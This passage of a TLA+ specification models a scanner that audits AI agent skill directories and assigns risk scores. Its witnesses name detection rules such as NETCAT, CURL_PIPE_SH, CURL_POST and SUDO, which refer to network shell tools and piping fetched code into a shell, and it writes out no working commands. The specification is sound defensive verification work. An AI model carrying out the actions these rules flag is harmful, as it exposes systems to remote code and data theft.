                           => score.total_score = 90

\* Three findings of one rule of weight 60: 60 + 30 + 30 = 120, reported 100.
C7_Witness ==
    /\ Len(findings) = 3
    /\ \A i \in 1..3 : findings[i].rule_id = "NETCAT" /\ findings[i].weight = 60
    /\ score.total_score = 100

----------------------------------------------------------------------------
(* Properties of the driver, checked under Spec *)

\* What scanning makes of each entry a root may hold
ScanOfEntry ==
    [e \in RootEntries |-> scan_skill_directory(e)]

\* What scanning and auditing makes of each entry a root may hold
AuditOfEntry ==
    [e \in RootEntries |-> audit_one(scan_skill_directory(e))]

\* The entries a root may hold that the scanner takes as skills
SkillEntries == {e \in RootEntries : IsSkillDir(e)}

\* The audit results of the skills directly under the root, whatever the
\* command line
AuditsOf(entries) ==
    LET found == SelectSeq(entries, IsSkillDir)
    IN  [i \in 1..Len(found) |-> AuditOfEntry[found[i]]]

AnyDangerous(rs) == \E i \in 1..Len(rs) : rs[i].risk_level = "dangerous"

\* C5: the exit code is 1 if and only if a scanned skill is dangerous, and 0
\* when the run ends with no dangerous skill.
C5_ExitOneIffDangerous ==
    pc = "done" =>
        exit_code = (IF AnyDangerous(AuditsOf(tree)) THEN 1 ELSE 0)

\* C5 as amended: when the root exists and the report, if one is due, could
\* be written, the exit code is 1 if and only if a scanned skill is
\* dangerous, counted before the --min-level filter; it is the same for
\* every --min-level and every report format and destination, and 0 when
\* no skill is dangerous.
C5_ExitOneIffDangerous_RootExists ==
    (pc = "done" /\ root_exists /\ "traceback" \notin {stderr[i] : i \in 1..Len(stderr)})
        => /\ exit_code = (IF AnyDangerous(AuditsOf(tree)) THEN 1 ELSE 0)
           /\ exit_code = (IF AnyDangerous(results) THEN 1 ELSE 0)

\* The only dangerous skill has no hard trigger and --min-level dangerous
\* drops the other result from the report: exit code 1.
C5_Witness ==
    /\ pc = "done"
    /\ Len(results) = 2
    /\ results[1].risk_level = "dangerous" /\ ~results[1].has_hard_trigger
    /\ results[2].risk_level = "high"
    /\ args.min_level = "dangerous"
    /\ Len(filtered_results) = 1
    /\ outfile.kind # "none"
    /\ exit_code = 1

\* Position of a file in a skill's file list (its place in the walk)
WalkPos(skill_name, path) ==
    LET sk == CHOOSE x \in {skills[i] : i \in 1..Len(skills)} : x.name = skill_name
    IN  CHOOSE n \in 1..Len(sk.files) : sk.files[n].relative_path = path

\* Finding a comes before finding b in (file, line, rule) order
FileLineRuleBefore(skill_name, a, b) ==
    \/ WalkPos(skill_name, a.file_path) < WalkPos(skill_name, b.file_path)
    \/ /\ a.file_path = b.file_path
       /\ \/ a.line_number < b.line_number
          \/ /\ a.line_number = b.line_number
             /\ IndexOf(a.rule_id) < IndexOf(b.rule_id)

\* C8: the findings of a skill are ordered by file-walk order, then by line
\* number within a file, then by catalog order of the rule within a line.
C8_FileLineRuleOrder ==
    \A n \in 1..Len(results) :
        LET fs == results[n].findings
        IN  \A i, j \in 1..Len(fs) :
                i < j => FileLineRuleBefore(results[n].skill_name, fs[i], fs[j])

\* Levels at or above a level, from the order safe < low < medium < high <
\* dangerous
AtOrAbove(level) ==
    CASE level = "safe"      -> {"safe", "low", "medium", "high", "dangerous"}
      [] level = "low"       -> {"low", "medium", "high", "dangerous"}
      [] level = "medium"    -> {"medium", "high", "dangerous"}
      [] level = "high"      -> {"high", "dangerous"}
      [] level = "dangerous" -> {"dangerous"}

RECURSIVE Kept(_, _)
\* The results at or above a level, in the order of rs
Kept(rs, level) ==
    IF rs = <<>> THEN <<>>
    ELSE (IF Head(rs).risk_level \in AtOrAbove(level) THEN <<Head(rs)>> ELSE <<>>)
         \o Kept(Tail(rs), level)

\* The report the run has emitted, NoReport while there is none
Emitted == IF stdout.kind # "none" THEN stdout ELSE outfile

\* The skills a terminal report lists, in its order
Listed(report) ==
    LET L == SelectSeq(report.lines, LAMBDA l : l.line = "skill")
    IN  [i \in 1..Len(L) |-> L[i].name]

\* C9: the report holds exactly the audit results at or above --min-level,
\* the structured report in scanner order and with the records unchanged;
\* with --min-level safe it holds every result; the exit code is the one a
\* run without the filter has.
C9_ReportHoldsKept ==
    Emitted.kind # "none" =>
        \E audits \in {AuditsOf(tree)} :
        \E kept \in {Kept(audits, args.min_level)} :
            /\ args.min_level = "safe" => kept = audits
            /\ Emitted.kind = "json" => Emitted.skills = kept
            /\ Emitted.kind = "terminal" =>
                  \E listed \in {Listed(Emitted)} :
                      /\ Len(listed) = Len(kept)
                      /\ \A i \in 1..Len(kept) :
                            \E j \in 1..Len(kept) : listed[j] = kept[i].skill_name
            /\ pc = "done" =>
                  exit_code = (IF AnyDangerous(audits) THEN 1 ELSE 0)

\* A structured report under --min-level medium that dropped the first of
\* two results (low) and kept the second (medium).
C9_Witness ==
    /\ pc = "done"
    /\ args.min_level = "medium"
    /\ Len(results) = 2
    /\ results[1].risk_level = "low"
    /\ results[2].risk_level = "medium"
    /\ Emitted.kind # "none"
    /\ Emitted.kind = "json"
    /\ Emitted.skills = <<results[2]>>
    /\ exit_code = 0

\* C10: when the root exists and holds no skill directory the run exits
\* with code 0 and, in structured mode, emits a report whose summary is
\* total_skills = 0, total_findings = 0 and every by_risk_level count 0.
C10_EmptyTreeReport ==
    (pc = "done" /\ root_exists /\ scan_skills_root(tree) = <<>>)
        => /\ exit_code = 0
           /\ (args.format = "json" /\ args.output # "unwritable")
                 => /\ Emitted.kind # "none"
                    /\ Emitted.summary.total_skills = 0
                    /\ Emitted.summary.total_findings = 0
                    /\ \A l \in DOMAIN Emitted.summary.by_risk_level :
                          Emitted.summary.by_risk_level[l] = 0

\* The entries of the root the scanner takes as skills, in its order
Discovered == SelectSeq(tree, IsSkillDir)

\* The paths the findings of a result name
FindingPaths(r) == {r.findings[i].file_path : i \in 1..Len(r.findings)}

\* C11: no stat failure, probe failure, read failure or decode failure of a
\* file and no failure to read or parse a manifest stops the run: every
\* discovered skill gets its audit result, a file on which one of these
\* fails contributes no finding to it, and a manifest that cannot be read
\* gives allowed_tools = [] with parse_success = false.
C11_FailuresContained ==
    pc \in {"filter", "report", "exit", "done"} /\ skills # <<>> =>
        \E found \in {Discovered} :
            /\ Len(results) = Len(found)
            /\ \A n \in 1..Len(found) :
                  /\ results[n].skill_name = found[n].name
                  /\ \A i \in 1..Len(found[n].files) :
                        found[n].files[i].io # "ok"
                            => found[n].files[i].path \notin FindingPaths(results[n])
                  /\ found[n].manifest.io # "ok"
                        => /\ results[n].allowed_tools = <<>>
                           /\ ~results[n].allowed_tools_parsed

\* C12: when the root directory does not exist the run prints a diagnostic
\* on stderr and exits with code 1; it scans nothing and emits no report,
\* neither on stdout nor to the --output path.
C12_MissingRootExitsOne ==
    ~root_exists =>
        /\ pc \in {"start", "done"}
        /\ skills = <<>> /\ results = <<>> /\ filtered_results = <<>>
        /\ stdout.kind = "none" /\ outfile.kind = "none" /\ written = {}
        /\ pc = "done" => exit_code = 1 /\ stderr = <<"no such directory">>

\* A run on a missing root that was asked for a structured report in a
\* file, at its end.
C12_Witness ==
    /\ ~root_exists
    /\ pc = "done"
    /\ args.format = "json" /\ args.output = "file"
    /\ exit_code = 1
    /\ outfile.kind = "none"

\* C13: a run leaves every file and directory under the skills root
\* unchanged, and it writes a file only when --output is given, that path
\* being the only one written.
C13_RootNeverChanged ==
    [][/\ tree' = tree
       /\ written' # written
             => args.output # "none" /\ written' = {OutputPath(args.output)}]_vars

\* C13 as amended: a run changes nothing under the skills root but the
\* --output path itself when that path lies under the root, every entry
\* that was there staying as it was; it writes a file only when --output is
\* given, and that path is the only one written.
C13_OnlyOutputWritten ==
    [][/\ written' # written
             => args.output # "none" /\ written' = {OutputPath(args.output)}
       /\ tree' # tree
             => /\ args.output = "in_root"
                /\ written' = {OutputPath(args.output)}
                /\ Len(tree') = Len(tree) + 1
                /\ SubSeq(tree', 1, Len(tree)) = tree
                /\ tree'[Len(tree')].name = "report.out"]_vars

\* A run over two skills that has saved its report below the root.
C13_Witness ==
    /\ pc = "done"
    /\ args.output = "in_root"
    /\ Len(results) = 2
    /\ Len(tree) = 3 /\ tree[3].name = "report.out"
    /\ written = {"<root>/report.out"}
    /\ outfile.kind # "none"

FiveLevels == {"safe", "low", "medium", "high", "dangerous"}

\* C14: in every structured report total_skills is the length of the
\* skills array, total_findings the sum of the lengths of the skills'
\* findings arrays, by_risk_level has exactly the keys safe, low, medium,
\* high, dangerous, each of its counts is the number of skills at that
\* level, and the five counts add up to total_skills.
C14_SummaryRecounts ==
    Emitted.kind = "json" =>
        LET sk == Emitted.skills
            by == Emitted.summary.by_risk_level
        IN  /\ Emitted.summary.total_skills = Len(sk)
            /\ Emitted.summary.total_findings =
                  Cardinality(UNION {{<<n, i>> : i \in 1..Len(sk[n].findings)} :
                                        n \in 1..Len(sk)})
            /\ DOMAIN by = FiveLevels
            /\ \A l \in FiveLevels :
                  by[l] = Cardinality({n \in 1..Len(sk) : sk[n].risk_level = l})
            /\ by["safe"] + by["low"] + by["medium"] + by["high"] + by["dangerous"]
                  = Len(sk)

\* A structured report of one dangerous skill with four findings, a second
\* result having been filtered out.
C14_Witness ==
    /\ Emitted.kind = "json"
    /\ Len(results) = 2
    /\ Emitted.summary.total_skills = 1
    /\ Emitted.summary.total_findings = 4
    /\ Emitted.summary.by_risk_level["dangerous"] = 1

\* The file of a root entry a finding names
FileAt(entry, path) ==
    CHOOSE f \in {entry.files[i] : i \in 1..Len(entry.files)} : f.path = path

\* The base weight of a catalog rule
BaseWeight(id) == get_all_patterns[IndexOf(id)].weight

\* Whether the findings of the result r of the skill at a root entry have
\* the weights their files give them
WeightsFollowFiles(entry, r) ==
    /\ \A i \in 1..Len(r.findings) :
          LET f    == r.findings[i]
              file == FileAt(entry, f.file_path)
              base == BaseWeight(f.rule_id)
          IN  f.weight = IF ScannedFile(file).is_script \/ ~file.ends_md
                         THEN base ELSE (base * 5) \div 10
    /\ (/\ Len(r.findings) = 1
        /\ BaseWeight(r.findings[1].rule_id) = 40
        /\ FileAt(entry, r.findings[1].file_path).ends_md
        /\ ~FileAt(entry, r.findings[1].file_path).shebang)
          => /\ r.findings[1].weight = 20
             /\ r.total_score = 20
             /\ r.risk_level = "low"

\* WeightsFollowFiles of each skill entry and its audit, kept as a table
WeightsFollowFilesOf ==
    [e \in SkillEntries |-> WeightsFollowFiles(e, AuditOfEntry[e])]

\* C15: the weight of a finding is the rule's base weight when the file is
\* a script or its path does not end in .md, and floor(base weight * 0.5)
\* otherwise; a skill whose only finding is a weight-40 rule in a
\* non-script .md file has weight 20, total_score 20 and risk_level low.
C15_EffectiveWeight ==
    \A n \in 1..Len(results) :
        \E entry \in {Discovered[n]} :
            IF results[n] = AuditOfEntry[entry]
            THEN WeightsFollowFilesOf[entry]
            ELSE WeightsFollowFiles(entry, results[n])

\* The results of a skill whose only finding is a weight-40 rule in its
\* manifest and of a skill with the same rule in a markdown file that has a
\* shebang.
C15_Witness ==
    /\ Len(results) = 2
    /\ results[1].skill_name = "docs"
    /\ Len(results[1].findings) = 1
    /\ results[1].findings[1].file_path = "SKILL.md"
    /\ results[1].findings[1].weight = 20
    /\ results[1].total_score = 20 /\ results[1].risk_level = "low"
    /\ \E i \in 1..Len(results[2].findings) :
          /\ results[2].findings[i].file_path = "run.md"
          /\ results[2].findings[i].weight = 40

\* The entries of the root that are directories, not hidden, and hold a
\* manifest, a scripts/ subdirectory or a file __main__.py
MarkedDirectories(entries) ==
    SelectSeq(entries, LAMBDA e :
        /\ e.is_dir
        /\ ~e.hidden
        /\ (e.skill_md # "none" \/ e.scripts = "dir" \/ e.main_py = "file"))

\* C17: scan_skills_root returns one SkillInfo for exactly the immediate
\* children of the root that are directories, do not begin with a dot and
\* hold a manifest named skill.md, SKILL.md or Skill.md, a scripts/
\* subdirectory or a file __main__.py; every other child is skipped.
C17_ExactlyMarkedDirectories ==
    (root_exists /\ pc \notin {"start", "scan"}) =>
        \E marked \in {MarkedDirectories(tree)} :
            /\ Len(skills) = Len(marked)
            /\ \A n \in 1..Len(marked) : skills[n].name = marked[n].name

\* The (file, line, rule) triples of a skill whose line the rule's pattern
\* matches, over the files audit_skill could read the text of
MatchingTriples(skill_info) ==
    UNION { UNION { {<<skill_info.files[k].relative_path, ln, id>> :
                        id \in BagToSet(skill_info.files[k].lines[ln])}
                    : ln \in 1..Len(skill_info.files[k].lines) }
            : k \in {j \in 1..Len(skill_info.files) :
                        skill_info.files[j].io # "read_fails"} }

\* The findings of a result for one triple
FindingsFor(r, triple) ==
    {i \in 1..Len(r.findings) :
        /\ r.findings[i].file_path = triple[1]
        /\ r.findings[i].line_number = triple[2]
        /\ r.findings[i].rule_id = triple[3]}

\* Whether the findings of the result r of a scanned skill are in
\* one-to-one correspondence with its matching triples
OneFindingPerTriple(skill_info, r) ==
    \E triples \in {MatchingTriples(skill_info)} :
        /\ \A t \in triples : Cardinality(FindingsFor(r, t)) = 1
        /\ Len(r.findings) = Cardinality(triples)

\* OneFindingPerTriple of each skill entry, its scan and its audit, kept as
\* a table
OneFindingPerTripleOf ==
    [e \in SkillEntries |-> OneFindingPerTriple(ScanOfEntry[e], AuditOfEntry[e])]

\* C19: the findings of a skill are in one-to-one correspondence with the
\* (file, line, rule) triples whose line the rule's pattern matches: each
\* such triple has exactly one finding, however often the pattern matches
\* on the line, every rule matching a line has its own finding, a rule
\* matching on n lines has n findings, and there are no other findings.
C19_OneFindingPerTriple ==
    \A n \in 1..Len(results) :
        \E entry \in {Discovered[n]} :
            IF skills[n] = ScanOfEntry[entry] /\ results[n] = AuditOfEntry[entry]
            THEN OneFindingPerTripleOf[entry]
            ELSE OneFindingPerTriple(skills[n], results[n])

\* Two skills audited: in one a line on which a pattern matches twice has
\* given one finding; in the other a line two rules match has given two
\* findings and a rule matching on two lines has given two findings.
C19_Witness ==
    /\ Len(results) = 2
    /\ results[1].skill_name = "admin"
    /\ CopiesIn("SUDO", skills[1].files[2].lines[1]) = 2
    /\ Cardinality(FindingsFor(results[1], <<"scripts/a.sh", 1, "SUDO">>)) = 1
    /\ results[2].skill_name = "mixed"
    /\ FindingsFor(results[2], <<"scripts/run.sh", 2, "CURL_PIPE_SH">>) # {}
    /\ FindingsFor(results[2], <<"scripts/run.sh", 2, "CURL_POST">>) # {}
    /\ FindingsFor(results[2], <<"scripts/run.sh", 1, "CURL_POST">>) # {}

\* The paths in the file list of a skill
ListedPaths(skill_info) ==
    {skill_info.files[k].relative_path : k \in 1..Len(skill_info.files)}

\* Whether a file of a root entry is at most MAX_FILE_SIZE bytes long, has
\* no NUL byte in its first 8192 bytes and lies under no ignored directory
Admissible(f) ==
    /\ f.size <= 2 * 1024 * 1024
    /\ ~f.nul
    /\ \A i \in 1..Len(f.dirs) : f.dirs[i] \notin SKIP_DIRS

\* Whether the file list of the scan of a root entry holds admissible
\* files only, and each admissible file of the entry once
FilesAdmissible(entry, skill_info) ==
    /\ \A k \in 1..Len(skill_info.files) :
          /\ skill_info.files[k].size <= 2 * 1024 * 1024
          /\ Admissible(FileAt(entry, skill_info.files[k].relative_path))
    /\ \A i \in 1..Len(entry.files) :
          (/\ entry.files[i].io \notin {"stat_fails", "open_fails"}
           /\ Admissible(entry.files[i]))
              => Cardinality({k \in 1..Len(skill_info.files) :
                     skill_info.files[k].relative_path
                         = entry.files[i].path}) = 1

\* FilesAdmissible of each skill entry and its scan, kept as a table
FilesAdmissibleOf ==
    [e \in SkillEntries |-> FilesAdmissible(e, ScanOfEntry[e])]

\* C20: every ScannedFile of a SkillInfo is at most 2 MiB long, has no NUL
\* byte in its first 8 KiB and lies under no directory named in the ignore
\* set; conversely every file of the skill that stat() and open() succeed
\* on and that meets the three conditions is in the list exactly once.
C20_FilesAdmissible ==
    \A n \in 1..Len(skills) :
        \E entry \in {Discovered[n]} :
            IF skills[n] = ScanOfEntry[entry]
            THEN FilesAdmissibleOf[entry]
            ELSE FilesAdmissible(entry, skills[n])

\* A skill scanned whose list holds the file of exactly 2 MiB and the
\* script, and not the file one byte longer, the file with a NUL byte or
\* the file under node_modules; a second one whose list lacks the files
\* stat() and open() fail on.
C20_Witness ==
    /\ Len(skills) = 2
    /\ skills[1].name = "installer"
    /\ ListedPaths(skills[1]) = {"data.csv", "scripts/install.sh"}
    /\ skills[1].files[1].size = MAX_FILE_SIZE
    /\ skills[2].name = "sudoer"
    /\ ListedPaths(skills[2]) = {"scripts/setup.sh", "scripts/flaky.sh"}

\* The extensions of script files, in lower case
ScriptExtensions ==
    {".py", ".sh", ".bash", ".zsh", ".js", ".ts", ".rb", ".pl", ".ps1",
     ".cmd", ".bat"}

\* Whether is_script of each file of the scan of a root entry says that
\* the file has a script extension or a shebang
ScriptsMarked(entry, skill_info) ==
    \A k \in 1..Len(skill_info.files) :
        LET file == FileAt(entry, skill_info.files[k].relative_path)
        IN  skill_info.files[k].is_script
                <=> (\/ \E e \in ScriptExtensions : lower(file.suffix) = e
                     \/ file.shebang)

\* Whether the result r of a scanned skill counts its files and its scripts
ScriptsCounted(skill_info, r) ==
    /\ r.file_count = Len(skill_info.files)
    /\ r.script_count =
           Cardinality({k \in 1..Len(skill_info.files) :
                           skill_info.files[k].is_script})
    /\ r.script_count <= r.file_count

\* ScriptsMarked of each skill entry and its scan, kept as a table
ScriptsMarkedOf ==
    [e \in SkillEntries |-> ScriptsMarked(e, ScanOfEntry[e])]

\* ScriptsCounted of each skill entry, its scan and its audit, kept as a
\* table
ScriptsCountedOf ==
    [e \in SkillEntries |-> ScriptsCounted(ScanOfEntry[e], AuditOfEntry[e])]

\* C21: a ScannedFile has is_script true if and only if its extension in
\* lower case is one of the eleven script extensions or the file begins
\* with #!; the file_count of an audit result is the number of scanned
\* files of the skill and its script_count the number of those with
\* is_script true, so script_count <= file_count.
C21_ScriptsCounted ==
    /\ \A n \in 1..Len(skills) :
          \E entry \in {Discovered[n]} :
              IF skills[n] = ScanOfEntry[entry]
              THEN ScriptsMarkedOf[entry]
              ELSE ScriptsMarked(entry, skills[n])
    /\ \A n \in 1..Len(results) :
          \E entry \in {Discovered[n]} :
              IF skills[n] = ScanOfEntry[entry] /\ results[n] = AuditOfEntry[entry]
              THEN ScriptsCountedOf[entry]
              ELSE ScriptsCounted(skills[n], results[n])

\* Two skills audited: one with a script named by a suffix in capitals
\* beside two files that are no scripts, one with a script by its suffix, a
\* script by its first line and two files that are no scripts.
C21_Witness ==
    /\ Len(results) = 2
    /\ results[1].skill_name = "benign"
    /\ results[1].file_count = 3 /\ results[1].script_count = 1
    /\ skills[1].files[3].is_script
    /\ FileAt(Discovered[1], skills[1].files[3].relative_path).suffix = ".PS1"
    /\ results[2].skill_name = "legacy"
    /\ results[2].file_count = 4 /\ results[2].script_count = 2
    /\ skills[2].files[3].is_script /\ skills[2].files[3].has_shebang
    /\ ~skills[2].files[4].is_script

\* C23: capability inference is part of every audit: the audit result of
\* each skill carries, beside the fields of findings, counts, declared
\* tools and score, the set of capabilities inferred from the skill's
\* files, a subset of {network, shell, filesystem_write}, which may be empty
\* and has no influence on the score.
C23_CapabilitiesCarried ==
    \A n \in 1..Len(results) :
        \E k \in DOMAIN results[n] \ SkillAuditResultFields :
            results[n][k] \subseteq Capabilities

\* The place of a risk level in the order safe < low < medium < high <
\* dangerous
LevelOrder ==
    [safe |-> 0, low |-> 1, medium |-> 2, high |-> 3, dangerous |-> 4]

\* The lines of a terminal report that name a skill, in its order
SkillRows(report) == SelectSeq(report.lines, LAMBDA l : l.line = "skill")

\* C25: the terminal report lists the skills by risk_level descending and,
\* within one risk_level, by total_score descending: of two listed skills
\* the earlier has the higher level, or the same level and a score at least
\* as great; the listed skills are a permutation of the filtered results.
C25_SortedByLevelThenScore ==
    Emitted.kind = "terminal" =>
        \E rows \in {SkillRows(Emitted)} :
            /\ \A i, j \in 1..Len(rows) :
                  i < j =>
                      \/ LevelOrder[rows[i].level] > LevelOrder[rows[j].level]
                      \/ /\ rows[i].level = rows[j].level
                         /\ rows[i].score >= rows[j].score
            /\ Len(rows) = Len(filtered_results)
            /\ \A n \in 1..Len(filtered_results) :
                  Cardinality({i \in 1..Len(rows) :
                      /\ rows[i].name = filtered_results[n].skill_name
                      /\ rows[i].level = filtered_results[n].risk_level
                      /\ rows[i].score = filtered_results[n].total_score}) = 1

\* A terminal report of two dangerous skills, the one with the greater
\* score scanned second and listed first.
C25_Witness ==
    /\ Emitted.kind = "terminal"
    /\ Len(filtered_results) = 2
    /\ filtered_results[1].risk_level = "dangerous"
    /\ filtered_results[2].risk_level = "dangerous"
    /\ filtered_results[1].total_score = 90
    /\ filtered_results[2].total_score = 100
    /\ Listed(Emitted) = <<filtered_results[2].skill_name,
                           filtered_results[1].skill_name>>

\* The lines of a terminal report below the line of the k-th listed skill,
\* up to the line of the next one
RowsBelow(report, k) ==
    LET at  == {i \in 1..Len(report.lines) : report.lines[i].line = "skill"}
        pos == CHOOSE i \in at : Cardinality({j \in at : j <= i}) = k
        nxt == {j \in at : j > pos}
        end == IF nxt = {} THEN Len(report.lines)
               ELSE (CHOOSE j \in nxt : \A m \in nxt : j <= m) - 1
    IN  SubSeq(report.lines, pos + 1, end)

\* The result a terminal report lists in k-th place
ListedResult(report, k) ==
    CHOOSE r \in {filtered_results[n] : n \in 1..Len(filtered_results)} :
        r.skill_name = SkillRows(report)[k].name

\* Whether a line of the report shows this finding
Shows(row, f) ==
    /\ row.line = "finding"
    /\ row.rule_id = f.rule_id /\ row.file = f.file_path /\ row.at = f.line_number

\* C26: in a terminal report that is not verbose a skill with n findings
\* shows its first min(n, 5) findings in findings order and then exactly
\* one summary line, reporting n - 5 further findings, if and only if
\* n > 5; in a verbose report all n findings are shown, each followed by its
\* snippet line, and there is no summary line.
C26_FindingLines ==
    Emitted.kind = "terminal" =>
        \A k \in 1..Len(SkillRows(Emitted)) :
            \E rows \in {RowsBelow(Emitted, k)} :
            \E fs \in {ListedResult(Emitted, k).findings} :
                IF args.format = "verbose"
                THEN /\ Len(rows) = 2 * Len(fs)
                     /\ \A i \in 1..Len(fs) :
                           /\ Shows(rows[2 * i - 1], fs[i])
                           /\ rows[2 * i].line = "snippet"
                ELSE \E m \in {IF Len(fs) < 5 THEN Len(fs) ELSE 5} :
                     /\ \A i \in 1..m : Shows(rows[i], fs[i])
                     /\ IF Len(fs) > 5
                        THEN /\ Len(rows) = m + 1
                             /\ rows[m + 1].line = "more"
                             /\ rows[m + 1].count = Len(fs) - 5
                        ELSE Len(rows) = m

\* A terminal report, not verbose, of a skill with six findings, five shown
\* and a summary line for one more, and of a skill with five findings, all
\* shown and no summary line.
C26_Witness ==
    /\ Emitted.kind = "terminal"
    /\ args.format = "terminal"
    /\ Len(SkillRows(Emitted)) = 2
    /\ Len(ListedResult(Emitted, 1).findings) = 6
    /\ Len(RowsBelow(Emitted, 1)) = 6
    /\ RowsBelow(Emitted, 1)[6] = [line |-> "more", count |-> 1]
    /\ Len(ListedResult(Emitted, 2).findings) = 5
    /\ Len(RowsBelow(Emitted, 2)) = 5
    /\ RowsBelow(Emitted, 2)[5].line = "finding"

\* A verbose terminal report of a skill with six findings: twelve lines
\* below the line of the skill, none of them a summary line.
C26_WitnessVerbose ==
    /\ Emitted.kind = "terminal"
    /\ args.format = "verbose"
    /\ Len(SkillRows(Emitted)) = 1
    /\ Len(ListedResult(Emitted, 1).findings) = 6
    /\ Len(RowsBelow(Emitted, 1)) = 12

PathPos(skill_info, path) ==
    CHOOSE n \in 1..Len(skill_info.files) :
        skill_info.files[n].relative_path = path

\* Finding a comes before finding b in (file, line, rule) order, the files
\* in the order of the file list of the scanned skill
BeforeIn(skill_info, a, b) ==
    \/ PathPos(skill_info, a.file_path) < PathPos(skill_info, b.file_path)
    \/ /\ a.file_path = b.file_path
       /\ \/ a.line_number < b.line_number
          \/ /\ a.line_number = b.line_number
             /\ IndexOf(a.rule_id) < IndexOf(b.rule_id)

RECURSIVE PlaceByFileLineRule(_, _, _)
\* A finding put into a list in (file, line, rule) order, at its place
PlaceByFileLineRule(skill_info, sorted, f) ==
    IF sorted = <<>> THEN <<f>>
    ELSE IF BeforeIn(skill_info, f, Head(sorted))
    THEN <<f>> \o sorted
    ELSE <<Head(sorted)>> \o PlaceByFileLineRule(skill_info, Tail(sorted), f)

RECURSIVE InFileLineRuleOrder(_, _, _)
\* The first n findings of a list, in (file, line, rule) order
InFileLineRuleOrder(skill_info, fs, n) ==
    IF n = 0 THEN <<>>
    ELSE PlaceByFileLineRule(skill_info,
                             InFileLineRuleOrder(skill_info, fs, n - 1), fs[n])

\* The weight of the first finding of a rule in a list, 0 if there is none
FirstWeight(fs, id) ==
    LET at == {i \in 1..Len(fs) : fs[i].rule_id = id}
    IN  IF at = {} THEN 0 ELSE fs[CHOOSE i \in at : \A j \in at : i <= j].weight

\* Whether the findings of the result r of a scanned skill score alike as
\* emitted and in (file, line, rule) order
OrdersScoreAlike(skill_info, r) ==
    \E emitted \in {r.findings} :
    \E ordered \in {InFileLineRuleOrder(skill_info, emitted, Len(emitted))} :
        /\ calculate_score(ordered) = calculate_score(emitted)
        /\ calculate_score(ordered) =
               ScoreResult(r.total_score, r.risk_level, r.has_hard_trigger)
        /\ \A k \in RuleIndex :
               FirstWeight(ordered, get_all_patterns[k].id)
                   = FirstWeight(emitted, get_all_patterns[k].id)

\* OrdersScoreAlike of each skill entry, its scan and its audit, kept as a
\* table
OrdersScoreAlikeOf ==
    [e \in SkillEntries |-> OrdersScoreAlike(ScanOfEntry[e], AuditOfEntry[e])]

\* C28: calculate_score gives the same total_score, risk_level and
\* has_hard_trigger for the findings of a skill in the order the code emits
\* them (per file, all lines of one rule, then all lines of the next) as
\* for the same findings in (file, line, rule) order; the first finding of
\* each rule has the same weight in both orders.
C28_OrdersScoreAlike ==
    \A n \in 1..Len(results) :
        \E entry \in {Discovered[n]} :
            IF skills[n] = ScanOfEntry[entry] /\ results[n] = AuditOfEntry[entry]
            THEN OrdersScoreAlikeOf[entry]
            ELSE OrdersScoreAlike(skills[n], results[n])

\* A skill audited whose findings the code emits in another order than
\* (file, line, rule): the rule matching line 2 before the rule matching
\* line 1; scored 75 either way.
C28_Witness ==
    /\ Len(results) = 1
    /\ results[1].skill_name = "fetcher"
    /\ Len(results[1].findings) = 2
    /\ results[1].findings[1].line_number = 2
    /\ results[1].findings[2].line_number = 1
    /\ InFileLineRuleOrder(skills[1], results[1].findings, 2)
           = <<results[1].findings[2], results[1].findings[1]>>
    /\ results[1].total_score = 75

\* The files of a skill, whatever the order of the walk
FileSet(skill_info) == {skill_info.files[k] : k \in 1..Len(skill_info.files)}

\* C29: for a fixed set of files of a skill, total_score and risk_level do
\* not depend on the order in which the files are walked, also when one
\* rule matches in a script (full weight) and in a markdown file that is no
\* script (half weight): two skills with the same files, walked in
\* different orders, have the same score and level.
C29_FileOrderIndependent ==
    \A m, n \in 1..Len(results) :
        FileSet(skills[m]) = FileSet(skills[n])
            => /\ results[m].total_score = results[n].total_score
               /\ results[m].risk_level = results[n].risk_level

----------------------------------------------------------------------------
(* Properties of update_marketplace, checked under SpecMarket *)

\* The skills of a list
SkillsIn(list) == {list[i] : i \in 1..Len(list)}

\* How often a skill is in a list
TimesIn(skill, list) == Cardinality({i \in 1..Len(list) : list[i] = skill})

\* The commands of a list of skills, in its order
CommandsFor(list) == [i \in 1..Len(list) |-> install_cmd(list[i], "official")]

\* C30: update_marketplace returns updated = true only when the marketplace
\* directory exists, commits_behind > 0 and git pull succeeded, and then
\* error is unset; in every other outcome no install command is queued and
\* reinstalled_skills and failed_skills are empty; when updated with
\* auto_install every affected skill is in exactly one of reinstalled_skills
\* and failed_skills, and a command is appended to the pending-installs
\* file for exactly the reinstalled ones; without auto_install both lists
\* are empty.
C30_UpdateFlow ==
    /\ step \in {"start", "check", "pull", "raised"} =>
          pending = env.pending_before
    /\ \A n \in 1..Len(returned) :
          \E r \in {returned[n]} :
              /\ r.updated =>
                    /\ env.dir_exists
                    /\ env.commits_behind > 0 /\ r.commits_behind > 0
                    /\ env.pull_ok
                    /\ r.error = "None"
              /\ ~r.updated =>
                    /\ pending = env.pending_before
                    /\ r.reinstalled_skills = <<>>
                    /\ r.failed_skills = <<>>
              /\ (r.updated /\ env.auto_install) =>
                    /\ \A s \in SkillsIn(r.affected_skills) :
                          TimesIn(s, r.reinstalled_skills)
                              + TimesIn(s, r.failed_skills) = 1
                    /\ SkillsIn(r.reinstalled_skills) \cup SkillsIn(r.failed_skills)
                          = SkillsIn(r.affected_skills)
                    /\ pending = env.pending_before
                                     \o CommandsFor(r.reinstalled_skills)
              /\ (r.updated /\ ~env.auto_install) =>
                    /\ r.reinstalled_skills = <<>>
                    /\ r.failed_skills = <<>>
                    /\ pending = env.pending_before

\* An update with auto_install of a marketplace with two installed skills:
\* the command of the first could not be written, the second is
\* reinstalled, and its command stands behind the line the file held.
C30_Witness ==
    /\ Len(returned) = 1
    /\ returned[1].updated
    /\ env.auto_install
    /\ returned[1].commits_behind = 2
    /\ returned[1].affected_skills = <<"pdf", "docx">>
    /\ returned[1].failed_skills = <<"pdf">>
    /\ returned[1].reinstalled_skills = <<"docx">>
    /\ pending = <<"/install pptx@official", "/install docx@official">>

----------------------------------------------------------------------------
(* Properties of the catalog's weights, checked under SpecScore *)

\* The catalog rule of the only finding of the list
OnlyRule == get_all_patterns[IndexOf(findings[1].rule_id)]

\* Whether the only finding of the list is one in a script
OnlyInScript == Len(findings) = 1 /\ findings[1].file_path = "run.sh"

\* Whether it is one in a markdown file that is no script
OnlyInMarkdown == Len(findings) = 1 /\ findings[1].file_path = "README.md"

\* A single finding in a script of a critical rule with hard_trigger scores
\* at least 75 from its own weight and is dangerous
CriticalAloneDangerous ==
    (OnlyInScript /\ OnlyRule.severity = "critical" /\ OnlyRule.hard_trigger)
        => /\ findings[1].weight >= 75
           /\ score.total_score >= 75
